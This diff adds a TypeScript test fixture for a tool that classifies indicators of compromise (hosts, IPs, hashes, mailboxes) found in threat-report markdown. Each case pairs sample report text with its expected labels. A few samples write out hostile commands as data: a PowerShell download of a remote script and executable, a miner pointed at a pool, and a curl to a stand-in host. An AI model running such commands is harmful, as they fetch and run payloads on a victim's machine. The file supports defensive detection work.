@@ -1,0 +1,337 @@
+export const HASH = '5e72f0741d29914843c91b9daed3256c5c5e8c73f8a7cbfc20cb8a9c06775833';
+const MD5 = '0a0c43726fd256ad827f4108bdf5e772';
+
+/** A short text with the verdict of some of its values, "+" for to_ids. */
+export interface VerdictCase {
+  name: string;
+  markdown: string;
+  want: Record<string, string>;
+}
+
+export const CASES: readonly VerdictCase[] = [
+  {
+    name: 'defanged prose is detection, links of the same sentence are references',
+    markdown:
+      'It calls hxxps://evil-cdn[.]com/api (see [VirusTotal](<https://www.virustotal.com/gui/file/abc>)) at 45[.]9[.]148[.]114:4444.',
+    want: {
+      'https://evil-cdn.com/api': 'indicator+',
+      '45.9.148.114:4444': 'indicator+',
+      'https://www.virustotal.com/gui/file/abc': 'reference',
+    },
+  },
+  {
+    name: 'a table of plain indicators under its heading',
+    markdown: `## Indicators of Compromise\n\n| Type | Value |\n| --- | --- |\n| Domain | update-check.top |\n| URL | http://update-check.top/gate.php |\n| IP | 91.92.240.11 |\n| SHA256 | ${HASH} |\n| Email | support@pay-fast.biz |\n`,
+    want: {
+      'update-check.top': 'indicator+',
+      'http://update-check.top/gate.php': 'indicator+',
+      '91.92.240.11': 'indicator+',
+      [HASH]: 'indicator+',
+      'support@pay-fast.biz': 'indicator+',
+    },
+  },
+  {
+    name: 'headings of other languages announce indicators, too',
+    markdown:
+      '## 침해 지표\n\n- plain-host.top\n\n## 附录\n\n- other-host.top\n\n## 侵害指標\n\n- third-host.top\n\n## Indicateurs de compromission\n\n- fourth-host.top',
+    want: {
+      'plain-host.top': 'indicator+',
+      'other-host.top': 'indicator+',
+      'third-host.top': 'indicator+',
+      'fourth-host.top': 'indicator+',
+    },
+  },
+  {
+    name: 'endings that are words count only where hosts are listed',
+    markdown:
+      '## IOCs\n\n- evil.services\n- bad-domain.systems\n\n## Analysis\n\nThe class foo.services calls module.run and reads README.md.',
+    want: {
+      'evil.services': 'indicator+',
+      'bad-domain.systems': 'indicator+',
+      'foo.services': 'junk',
+      'module.run': 'junk',
+      'README.md': 'junk',
+    },
+  },
+  {
+    name: 'a column of domains makes a domain of what looks like a file',
+    markdown:
+      'The botnet was run by a threat actor.\n\n| Domain | First seen |\n| --- | --- |\n| get.sh | 2024 |\n\n| File name | Size |\n| --- | --- |\n| run.sh | 4 kB |',
+    want: { 'get.sh': 'indicator+', 'run.sh': 'junk' },
+  },
+  {
+    name: 'what nobody owns is junk',
+    markdown:
+      'Addresses 10.0.0.5, 127.0.0.1:8118, 192.168.1.1, 169.254.169.254, 203.0.113.9, 0.0.0.0, 255.255.255.255 and fe80::1:2:3, http://10.1.1.1/a and http://localhost:8080/ on example.com.',
+    want: {
+      '10.0.0.5': 'junk',
+      '127.0.0.1:8118': 'junk',
+      '192.168.1.1': 'junk',
+      '169.254.169.254': 'junk',
+      '203.0.113.9': 'junk',
+      '0.0.0.0': 'junk',
+      '255.255.255.255': 'junk',
+      'fe80::1:2:3': 'junk',
+      'http://10.1.1.1/a': 'junk',
+      'http://localhost:8080/': 'junk',
+      'example.com': 'junk',
+    },
+  },
+  {
+    name: 'versions are told from addresses by their words',
+    markdown: 'FortiOS 7.2.0.1 and earlier, version 45.9.148.1, Chrome/45.9.148.2, build: 45.9.148.3; the server 45.9.148.4 answered.',
+    want: { '7.2.0.1': 'junk', '45.9.148.1': 'junk', '45.9.148.2': 'junk', '45.9.148.3': 'junk', '45.9.148.4': 'indicator' },
+  },
+  {
+    name: 'public resolvers and the edges of a listed network are no indicators',
+    markdown: 'It asks 8.8.8.8 and 1.1.1.1. It scans 134.122.0.0/16, that is 134.122.0.0 to 134.122.255.255.',
+    want: {
+      '8.8.8.8': 'reference',
+      '1.1.1.1': 'reference',
+      '134.122.0.0/16': 'indicator',
+      '134.122.0.0': 'reference',
+      '134.122.255.255': 'reference',
+    },
+  },
+  {
+    name: 'well-known services: a reference when plain, context when defanged, an indicator when a file on them is defanged',
+    markdown:
+      'See https://github.com/acme/tool and google.com. It tests www[.]google[.]com, asks api[.]ipify[.]org and loads hxxps://raw.githubusercontent[.]com/bad/repo/a.ps1 and hxxps://x.duckdns[.]org.',
+    want: {
+      'https://github.com/acme/tool': 'reference',
+      'google.com': 'reference',
+      'www.google.com': 'context',
+      'api.ipify.org': 'context',
+      'https://raw.githubusercontent.com/bad/repo/a.ps1': 'indicator+',
+      'https://x.duckdns.org': 'indicator+',
+    },
+  },
+  {
+    name: "the site's own names are references",
+    markdown:
+      'Read acme-labs.com or https://www.acme-labs.com/blog/two; write to research@acme-labs.com or team@acme-labs.co.uk. C2: evil[.]com',
+    want: {
+      'acme-labs.com': 'reference',
+      'https://www.acme-labs.com/blog/two': 'reference',
+      'research@acme-labs.com': 'reference',
+      'team@acme-labs.co.uk': 'reference',
+      'evil.com': 'indicator+',
+    },
+  },
+  {
+    name: 'mailboxes: of criminals, of contacts, of agencies',
+    markdown:
+      'The attackers sent ransomware. Write to badguy@protonmail.com. Contact tips@vendor-sec.com or submit@cert.gov. Mails came from hr@fake-company.com. For more, email desk[at]partner.co.uk. Ransom notes name boss[@]evil[.]top.',
+    want: {
+      'badguy@protonmail.com': 'indicator+',
+      'tips@vendor-sec.com': 'reference',
+      'submit@cert.gov': 'reference',
+      'hr@fake-company.com': 'indicator',
+      'desk@partner.co.uk': 'reference',
+      'boss@evil.top': 'indicator+',
+    },
+  },
+  {
+    name: 'references stay references also as a list',
+    markdown: '## IOCs\n\n- evil[.]com\n\n## References\n\n1. https://www.some-vendor.io/blog/post\n2. evil-looking-blog.com',
+    want: { 'evil.com': 'indicator+', 'https://www.some-vendor.io/blog/post': 'reference', 'evil-looking-blog.com': 'reference' },
+  },
+  {
+    name: 'providers and brands in a sentence',
+    markdown: 'C2: 45[.]9[.]148[.]114. The domain bad-host.top was registered at imena.ua and sold as Booking.com, says Snort.org.',
+    want: {
+      '45.9.148.114': 'indicator+',
+      'bad-host.top': 'indicator',
+      'imena.ua': 'reference',
+      'booking.com': 'reference',
+      'snort.org': 'reference',
+    },
+  },
+  {
+    name: 'a host left plain by an author who defangs hosts is not meant; one that is listed elsewhere is',
+    markdown: 'C2s are a-host[.]top and b-host[.]top. We thank helpful-site.io. Again, a-host.top answers.',
+    want: { 'a-host.top': 'indicator+', 'b-host.top': 'indicator+', 'helpful-site.io': 'reference' },
+  },
+  {
+    name: 'plain hosts of a page that shows no indicators are names',
+    markdown: 'The outage of some-shop.com was long, says other-shop.net.',
+    want: { 'some-shop.com': 'reference', 'other-shop.net': 'reference' },
+  },
+  {
+    name: 'hashes: files, keys, commits, the empty file',
+    markdown: `Sample ${HASH}. The AES key is ${MD5}. Fixed in commit 3e38c1cde0d7e40d9b498e352dbbc8f148fa83c6. Empty: d41d8cd98f00b204e9800998ecf8427e.`,
+    want: {
+      [HASH]: 'indicator+',
+      [MD5]: 'context',
+      '3e38c1cde0d7e40d9b498e352dbbc8f148fa83c6': 'junk',
+      d41d8cd98f00b204e9800998ecf8427e: 'junk',
+    },
+  },
+  {
+    name: 'metadata of rules is no indicator, their strings are',
+    markdown: `\`\`\`\nrule X {\n meta:\n  author = "a@b-team.com"\n  reference = "https://blog.some-vendor.io/x"\n  hash = "${MD5}"\n strings:\n  $a = "http://45.9.148.1/gate.php"\n}\n\`\`\`\n\n\`\`\`yaml\nreferences:\n  - https://blog.other-vendor.io/y\ndetection:\n  DestinationHostname: c2.evil-host.top\n\`\`\``,
+    want: {
+      'a@b-team.com': 'reference',
+      'https://blog.some-vendor.io/x': 'reference',
+      [MD5]: 'indicator+',
+      'http://45.9.148.1/gate.php': 'indicator+',
+      'https://blog.other-vendor.io/y': 'reference',
+      'c2.evil-host.top': 'indicator',
+    },
+  },
+  {
+    name: 'commands and dumps',
+    markdown:
+      "```\n$c.DownloadString('http://45.9.148.1/p.ps1'); iwr https://cdn.discordapp.com/attachments/1/2/x.exe\nGET /index.html HTTP/1.1\nUser-Agent: Mozilla/5.0 (Windows NT 10.0) Chrome/99.0.4844.51 (+http://www.google.com/bot.html)\n```",
+    want: {
+      'http://45.9.148.1/p.ps1': 'indicator+',
+      'https://cdn.discordapp.com/attachments/1/2/x.exe': 'indicator',
+      'index.html': 'reference',
+      'http://www.google.com/bot.html': 'reference',
+    },
+  },
+  {
+    name: 'property chains in code are no hosts, hosts with a word as ending are',
+    markdown:
+      'The botnet asks its C2.\n\n```\nC2: 45.9.148.7\nconsole.log(e.data.id, user.email); ./kinsd -o pool.tidewater-mining.pro:3333; curl evil-host.world\n```',
+    want: { 'e.data.id': 'junk', 'user.email': 'junk', 'pool.tidewater-mining.pro': 'indicator', 'evil-host.world': 'indicator' },
+  },
+  {
+    name: 'the words beside a value: accused, vouched for, pointed to',
+    markdown:
+      'It calls a-host[.]top and b-host[.]top. The domain "plain-host.site" and api.thanks-to.io; exfiltration by api[.]mailer-x[.]com (legitimate service).\n\n## IOCs\n\nThe full list can be found in our repository:\nhttps://lists.some-vendor.com/iocs.csv\n\nhttp://raw-host.top/gate.php',
+    want: {
+      'plain-host.site': 'indicator',
+      'api.thanks-to.io': 'reference',
+      'api.mailer-x.com': 'context',
+      'https://lists.some-vendor.com/iocs.csv': 'reference',
+      'http://raw-host.top/gate.php': 'indicator+',
+    },
+  },
+  {
+    name: 'an author who never defangs: plain addresses are shown, links and footnotes are references',
+    markdown: `It downloads http://raw-host.top/gate.php and drops ${HASH}. More at <https://blog.some-vendor.net/post>.\n\n[1] https://papers.some-site.net/x`,
+    want: {
+      'http://raw-host.top/gate.php': 'indicator',
+      'https://blog.some-vendor.net/post': 'reference',
+      'https://papers.some-site.net/x': 'reference',
+    },
+  },
+  {
+    name: 'an address that is a link to itself is a reference',
+    markdown: 'It calls evil[.]com. More: <https://some-blog.net/a.zip>.',
+    want: { 'https://some-blog.net/a.zip': 'reference' },
+  },
+  {
+    name: 'offices and registrants in a dump',
+    markdown: 'The phishing site of the attackers:\n\n```\nabuse-mailbox: abuse@nice-hosting.com\ne-mail: registrant@gmail.com\n```',
+    want: { 'abuse@nice-hosting.com': 'reference', 'registrant@gmail.com': 'indicator+' },
+  },
+  {
+    name: 'vulnerabilities and techniques are context',
+    markdown: 'CVE-2021-44228 and T1059.001, T1105.',
+    want: { 'CVE-2021-44228': 'context', 'T1059.001': 'context', T1105: 'context' },
+  },
+  {
+    name: 'what is only linked is a reference',
+    markdown: 'See [the sample](<http://evil-host.top/a.exe>) and ![evil-picture.top](<https://evil-picture.top/x.png>).',
+    want: { 'http://evil-host.top/a.exe': 'reference' },
+  },
+  {
+    name: 'a linked hash is the hash',
+    markdown: `- [${HASH}](<https://www.virustotal.com/gui/file/${HASH}>)`,
+    want: { [HASH]: 'indicator+', [`https://www.virustotal.com/gui/file/${HASH}`]: 'reference' },
+  },
+  {
+    name: 'the same address with and without scheme is one, unless both are defanged',
+    markdown: 'It loads hxxp://evil[.]com/a.dat.\n\n```\nverify evil.com/a.dat\n```\n\nhxxp://other[.]com/b and other[.]com/b',
+    want: { 'http://evil.com/a.dat': 'indicator+', 'http://other.com/b': 'indicator+', 'other.com/b': 'indicator+' },
+  },
+  {
+    name: 'a wide network is shown, not detected',
+    markdown: '## IOCs\n\n- 45.128.0.0/12\n- 45.9.148.0/24',
+    want: { '45.128.0.0/12': 'indicator', '45.9.148.0/24': 'indicator+' },
+  },
+  {
+    name: 'the home of a tool in a column of user agents',
+    markdown:
+      'Malware.\n\n## Atomic indicators\n\n| Indicator | Type |\n| --- | --- |\n| S3 Plover 9.5 s3plover.com | UA |\n| plover.top | Domain |',
+    want: { 's3plover.com': 'reference', 'plover.top': 'indicator+' },
+  },
+  {
+    name: 'a name that links to its own site is where the reader is sent',
+    markdown:
+      'The malware is packed with a product of [acme-packer.io](<https://acme-packer.io/>). It calls 45.9.148.7.\n\n## IOCs\n\n- 45.9.148.7',
+    want: { 'acme-packer.io': 'reference' },
+  },
+  {
+    name: 'a name below a domain that is defanged elsewhere is shown',
+    markdown: 'It calls evil-plover[.]com and gull[.]top. Later www.evil-plover.com showed a login page.',
+    want: { 'www.evil-plover.com': 'indicator' },
+  },
+  {
+    name: 'the value of a key that names the control server detects',
+    markdown: 'Malware.\n\n```json\n{ "sleep": 60, "c2": "plover-panel.org", "update": "https://vendor.example.org/" }\n```',
+    want: { 'plover-panel.org': 'indicator+' },
+  },
+  {
+    name: 'a host with a port is no reference, also where the author defangs others',
+    markdown: 'The malware calls evil-plover[.]com and gull[.]top. It has backup-plover.org:8443 as a fallback.',
+    want: { 'backup-plover.org': 'indicator' },
+  },
+  {
+    name: 'pages of well-known services, disguised: of the service itself, of its users, called legitimate',
+    markdown:
+      'Malware opens hxxps://www.oracle[.]com/java, hxxps://www.google[.]com/ and hxxps://tern-shop[.]org/a (legitimate), then hxxps://www.dropbox[.]com/s/abc/x.zip.',
+    want: {
+      'https://www.oracle.com/java': 'context',
+      'https://www.google.com/': 'context',
+      'https://tern-shop.org/a': 'context',
+      'https://www.dropbox.com/s/abc/x.zip': 'indicator+',
+    },
+  },
+  {
+    name: 'a URL with a placeholder is no detection',
+    markdown: 'Malware.\n\n## IOCs\n\n- http://plover.top/{random}.php\n- https://t.me/ploverbot\n- plover.top',
+    want: { 'http://plover.top/{random}.php': 'indicator', 'https://t.me/ploverbot': 'indicator' },
+  },
+  {
+    name: 'a path on an address without its scheme',
+    markdown: 'The malware fetches 45.9.148.7/plover.sh and runs it.',
+    want: { '45.9.148.7/plover.sh': 'indicator+' },
+  },
+  {
+    name: 'mailboxes of the site, of the authors of rules and of offices below a list of indicators',
+    markdown:
+      'Malware.\n\n## Indicators\n\n- plover@tern-mail.org\n- labs@acme-labs.com\n- report@cyber.gov\n- [press@gull-news.org](<mailto:press@gull-news.org>)\n\n```\nmeta:\n  author = "jo@rules-of-gull.org"\n```',
+    want: {
+      'plover@tern-mail.org': 'indicator+',
+      'labs@acme-labs.com': 'reference',
+      'report@cyber.gov': 'reference',
+      'jo@rules-of-gull.org': 'reference',
+    },
+  },
+  {
+    name: 'release notes that speak of attackers: revisions, helpers, repositories',
+    markdown: [
+      'An attacker could exploit CVE-2021-44228; the malicious file is refused now.',
+      '- Reverts 3e38c1cde0d7e40d9b498e352dbbc8f148fa83c1, introduced by 3e38c1cde0d7e40d9b498e352dbbc8f148fa83c2',
+      '- Follow-up of commit 3e38c1cde0d7e40d9b498e352dbbc8f148fa83c3 and commit 3e38c1cde0d7e40d9b498e352dbbc8f148fa83c4',
+      '- 3e38c1cde0d7e40d9b498e352dbbc8f148fa83c5 was wrong\n- Reported by Umut <umut77@gmx.de>',
+      'The list is kept by Jane M Doe <jane.doe@gmail.com>.',
+      '- Merge branch of git://anon.some-forge.org/x/lib',
+    ].join('\n\n'),
+    want: {
+      '3e38c1cde0d7e40d9b498e352dbbc8f148fa83c5': 'junk',
+      'umut77@gmx.de': 'reference',
+      'jane.doe@gmail.com': 'reference',
+      'git://anon.some-forge.org/x/lib': 'reference',
+    },
+  },
+  {
+    name: 'a SHA-1 in a sentence on a page about no threat is a revision, in a column of SHA-1 it is a hash',
+    markdown:
+      'The build of today is 7d122d5cde0d7e40d9b498e352dbbc8f148fa83c.\n\n| File | SHA1 |\n| --- | --- |\n| plover.pdf | 9a38c1cde0d7e40d9b498e352dbbc8f148fa83cf |',
+    want: { '7d122d5cde0d7e40d9b498e352dbbc8f148fa83c': 'junk', '9a38c1cde0d7e40d9b498e352dbbc8f148fa83cf': 'indicator+' },
+  },
+];
